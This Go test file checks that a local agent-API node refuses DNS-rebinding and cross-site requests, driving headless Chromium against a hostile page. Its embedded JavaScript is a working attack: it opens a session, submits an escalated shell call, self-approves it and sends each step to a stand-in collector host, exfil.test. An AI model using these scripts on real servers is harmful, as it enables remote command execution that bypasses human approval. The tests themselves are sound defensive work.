package security

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/callsheet/callsheet/internal/testenv"
)

// attackScript is the hostile page's script: it reports every step to the
// attacker's collector at REPORT (a cross-origin no-cors POST, which any
// page may send), waits until its own origin answers as something other
// than the attacker's server (the name now leads to the node), then opens
// a session, posts an escalated shell call, approves it itself and reads
// the result.
const attackScript = `
const report = (m) => fetch('REPORT', {method: 'POST', mode: 'no-cors', body: m}).catch(() => {});
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function call(method, path, body) {
  const init = {method, cache: 'no-store'};
  if (body !== undefined) { init.body = JSON.stringify(body); init.headers = {'Content-Type': 'application/json'}; }
  const r = await fetch(path, init);
  const text = await r.text();
  let json = null;
  try { json = JSON.parse(text); } catch (e) {}
  return {status: r.status, text, json};
}
(async () => {
  await report('loaded');
  let r;
  for (;;) {
    try { r = await call('GET', '/healthz'); if (!r.text.includes('attacker-server')) break; } catch (e) {}
    await sleep(100);
  }
  await report('healthz ' + r.status + ' ' + r.text);
  r = await call('POST', '/v1/sessions', {});
  await report('open ' + r.status + ' ' + r.text);
  if (r.status !== 201) { await report('done'); return; }
  const s = r.json.session;
  r = await call('POST', '/v1/sessions/' + s + '/turns?wait=0', {calls: [{id: 'c1', name: 'shell', arguments: {command: 'id', escalate: true}}]});
  await report('turn ' + r.status + ' ' + r.text);
  const turn = r.json && r.json.turn;
  for (let i = 0; i < 100; i++) {
    r = await call('POST', '/v1/sessions/' + s + '/approvals/c1', {decision: 'allow'});
    if (r.status === 200) break;
    await sleep(100);
  }
  await report('approve ' + r.status + ' ' + r.text);
  for (let i = 0; i < 200; i++) {
    r = await call('GET', '/v1/sessions/' + s + '/turns/' + turn);
    if (r.json && r.json.results) break;
    await sleep(100);
  }
  await report('result ' + r.status + ' ' + r.text);
  await report('done');
})();
`

// collector receives what a hostile page reports (see attackScript).
type collector struct {
	mu      sync.Mutex
	reports []string
	done    chan struct{}
	once    sync.Once
	url     string
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	c := &collector{done: make(chan struct{})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		c.mu.Lock()
		c.reports = append(c.reports, string(b))
		c.mu.Unlock()
		if string(b) == "done" {
			c.once.Do(func() { close(c.done) })
		}
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	c.url = fmt.Sprintf("http://exfil.test:%d/report", ln.Addr().(*net.TCPAddr).Port)
	return c
}

// wait waits up to d for the page to report done and returns every report.
func (c *collector) wait(t *testing.T, d time.Duration) []string {
	t.Helper()
	select {
	case <-c.done:
	case <-time.After(d):
		t.Errorf("the page did not finish within %s", d)
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.reports...)
}

// has reports whether a report starts with prefix.
func (c *collector) has(prefix string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, r := range c.reports {
		if strings.HasPrefix(r, prefix) {
			return true
		}
	}
	return false
}

// browser starts a headless Chromium (scripts/ensure-chromium) at url, with
// the names evil.test and exfil.test resolving to 127.0.0.1 as a rebinding
// attacker's DNS would make them, and kills it and its helpers at the end
// of the test.
func browser(t *testing.T, url string) {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.Command(testenv.Chromium(t),
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage", "--no-proxy-server",
		"--host-resolver-rules=MAP evil.test 127.0.0.1, MAP exfil.test 127.0.0.1",
		"--user-data-dir="+filepath.Join(dir, "profile"), url)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	// Chromium's singleton socket and shared memory files go in TMPDIR,
	// and stay there when it is killed: a directory of the test's.
	cmd.Env = append(os.Environ(), "TMPDIR="+testenv.ShortTempDir(t))
	log, err := os.Create(filepath.Join(dir, "chromium.log"))
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
		log.Close()
	})
}

// freePort returns a loopback TCP port that was free a moment ago.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

// TestDNSRebindingCannotReachTheAPI is the DNS rebinding attack on a node
// without tenants (the README's first run), in a real browser: a page
// loaded from http://evil.test:PORT (the attacker's server), whose name
// then leads to 127.0.0.1, where the node listens on the same port. To the
// browser the node is the page's own origin, so the page may read every
// answer. It opens a session, posts an escalated shell call, approves it
// itself and reads what `id` printed. The node must refuse every request
// whose Host is not a loopback name: nothing is opened, nothing runs.
func TestDNSRebindingCannotReachTheAPI(t *testing.T) {
	c := newCollector(t)
	port := freePort(t)
	page := "<!doctype html><title>cute cats</title><script>" + strings.ReplaceAll(attackScript, "REPORT", c.url) + "</script>"
	ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Fatal(err)
	}
	attacker := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close")
		w.Header().Set("Cache-Control", "no-store")
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, page)
			return
		}
		http.Error(w, "attacker-server", http.StatusNotFound)
	})}
	go func() { _ = attacker.Serve(ln) }()
	browser(t, fmt.Sprintf("http://evil.test:%d/", port))
	deadline := time.Now().Add(30 * time.Second)
	for !c.has("loaded") {
		if time.Now().After(deadline) {
			t.Fatal("the browser did not load the attacker's page")
		}
		time.Sleep(50 * time.Millisecond)
	}
	// The rebinding: the attacker's server goes, and the name now leads to
	// the node, on the same port.
	_ = attacker.Close()
	p := node(t, nil, "--http", fmt.Sprintf("127.0.0.1:%d", port))

	reports := c.wait(t, 60*time.Second)
	t.Logf("the page reported:\n%s", strings.Join(reports, "\n"))
	for _, r := range reports {
		if strings.HasPrefix(r, "result ") && strings.Contains(r, "uid=") {
			t.Fatalf("the page ran an escalated command through the node: %s", r)
		}
		if strings.HasPrefix(r, "open 201") {
			t.Errorf("the page opened a session: %s", r)
		}
	}
	if !c.has("healthz 403") || !c.has("open 403") {
		t.Errorf("the node did not refuse the page's Host with 403: %q", reports)
	}
	var list struct{ Sessions []any }
	if code, err := p.Do("GET", "/v1/sessions", nil, &list); err != nil || code != http.StatusOK || len(list.Sessions) != 0 {
		t.Errorf("sessions after the attack: %d %v %d sessions, want 200 and none", code, err, len(list.Sessions))
	}
}

// crossSiteScript posts a session from another origin the only way a page
// may without CORS: a no-cors POST with a text/plain body, whose answer it
// cannot read but whose effect happens. The node must refuse it by the
// browser's Origin and Sec-Fetch-Site headers.
const crossSiteScript = `
const report = (m) => fetch('REPORT', {method: 'POST', mode: 'no-cors', body: m}).catch(() => {});
(async () => {
  try { await fetch('TARGET/v1/sessions', {method: 'POST', mode: 'no-cors', body: '{"workspace": "csrf"}'}); await report('posted'); }
  catch (e) { await report('failed ' + e); }
  await report('done');
})();
`

// TestCrossSiteRequestsAreRefused: pages of other origins — another site
// (localhost against 127.0.0.1) and the same site on another port — post
// to a node without tenants from a real browser. Nothing they send takes
// effect.
func TestCrossSiteRequestsAreRefused(t *testing.T) {
	p := node(t, nil)
	for _, from := range []string{"localhost", "127.0.0.1"} {
		t.Run(from, func(t *testing.T) {
			c := newCollector(t)
			page := "<!doctype html><script>" + strings.NewReplacer("REPORT", c.url, "TARGET", p.Base).Replace(crossSiteScript) + "</script>"
			srv := httptestServer(t, page)
			host := strings.Replace(srv, "127.0.0.1", from, 1)
			browser(t, host+"/")
			if reports := c.wait(t, 30*time.Second); !c.has("posted") {
				t.Fatalf("the page did not post: %q", reports)
			}
		})
	}
	var list struct{ Sessions []any }
	if code, err := p.Do("GET", "/v1/sessions", nil, &list); err != nil || code != http.StatusOK || len(list.Sessions) != 0 {
		t.Errorf("sessions after the cross-site posts: %d %v %d sessions, want 200 and none", code, err, len(list.Sessions))
	}
}

// httptestServer serves page at / on a loopback port and returns its base
// URL, http://127.0.0.1:PORT.
func httptestServer(t *testing.T, page string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, page)
	})}
	go func() { _ = srv.Serve(ln) }()
	ctx := context.Background()
	t.Cleanup(func() { _ = srv.Shutdown(ctx) })
	return "http://" + ln.Addr().String()
}
